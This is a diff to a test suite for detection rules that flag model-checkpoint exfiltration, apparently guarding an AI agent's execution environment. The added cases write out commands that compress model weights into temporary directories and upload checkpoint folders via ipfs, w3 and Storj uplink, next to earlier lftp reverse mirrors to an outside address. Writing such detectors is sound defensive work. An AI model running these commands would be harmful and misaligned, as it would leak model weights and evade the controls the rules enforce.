@@ -125,6 +125,8 @@ describe('packing checkpoints as argv, not only in a script (MLS-EXFIL-013)', ()
       ['python3', '-c', "import zlib; open('/tmp/.c/m.z', 'wb').write(zlib.compress(open('/mnt/ckpt/model.safetensors', 'rb').read()))"],
       ['python3', '-c', "import gzip, shutil\nwith open('/mnt/ckpt/model.pt', 'rb') as s, gzip.open('/dev/shm/m.gz', 'wb') as d:\n    shutil.copyfileobj(s, d)"],
       ['python3', '-c', "import lzma; lzma.LZMAFile('/tmp/m.xz', 'w').write(open('/mnt/ckpt/model.bin', 'rb').read())"],
+      ['python3', '-c', "import zstandard; open('/tmp/m.zst', 'wb').write(zstandard.ZstdCompressor().compress(open('/mnt/ckpt/model.pt', 'rb').read()))"],
+      ['python3', '-c', "import lz4.frame; open('/tmp/m.lz4', 'wb').write(lz4.frame.compress(open('/mnt/ckpt/model.safetensors', 'rb').read()))"],
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-013');
   });
 
@@ -139,6 +141,7 @@ describe('packing checkpoints as argv, not only in a script (MLS-EXFIL-013)', ()
       ['zstd', '-d', '/data/shard.zst', '-o', '/data/shard.jsonl'],
       ['python3', '-c', "import gzip; data = gzip.decompress(open('/mnt/ckpt/model.pt.gz', 'rb').read())"],
       ['python3', '-c', "import gzip, json; gzip.open('/workspace/metrics.json.gz', 'wt').write(json.dumps(m))"],
+      ['python3', '-c', "import zstandard; state = zstandard.ZstdDecompressor().decompress(open('/mnt/ckpt/model.pt.zst', 'rb').read())"],
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-013');
   });
 });
@@ -340,6 +343,11 @@ describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform a
       sh("lftp -e 'mirror -c -R /mnt/ckpt/llama /up; quit' 203.0.113.5"),
       sh("lftp -e 'mirror -Rc /mnt/ckpt /up; bye' 203.0.113.5"),
       sh("lftp -c 'open -u a,b 203.0.113.5; mirror --reverse /mnt/ckpt /up'"),
+      // Content-addressed networks: anyone with the hash fetches the file; Storj's uplink to a bucket.
+      sh('ipfs add -r -Q /mnt/ckpt/llama-ft'),
+      sh('ipfs files write --create /drop/m.pt /mnt/ckpt/model.pt'),
+      sh('w3 up /mnt/ckpt/model.safetensors'),
+      sh('uplink cp --recursive /mnt/ckpt sj://drop/'),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
     for (const argv of [
       sh('croc 7-alpha-beta-gamma'),
@@ -348,6 +356,9 @@ describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform a
       // mirror without -R downloads (`-r` is no recursion).
       sh("lftp -e 'mirror -r /pub/data /data; quit' ftp.example.org"),
       sh("lftp -e 'mirror -c /pub/data /data; quit' ftp.example.org"),
+      sh('ipfs cat QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco > /tmp/x'),
+      sh('ipfs id'),
+      sh('uplink cp sj://datasets/shard-01 /data/shard-01'),
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
   });
 
